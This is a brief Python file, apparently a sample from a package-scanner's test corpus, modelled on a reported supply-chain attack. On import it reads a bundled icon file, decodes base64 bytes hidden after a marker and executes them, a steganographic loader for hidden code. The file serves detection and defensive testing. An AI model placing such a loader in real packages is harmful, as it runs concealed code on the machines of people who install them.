# pkgguard corpus 170 (steganography), modelled on [telnyx]; inert, never run.
import base64
import os

_icon = os.path.join(os.path.dirname(__file__), "data", "icon.ico")
_raw = open(_icon, "rb").read()
_marker = _raw.rfind(b"::")
exec(base64.b64decode(_raw[_marker + 2:]))
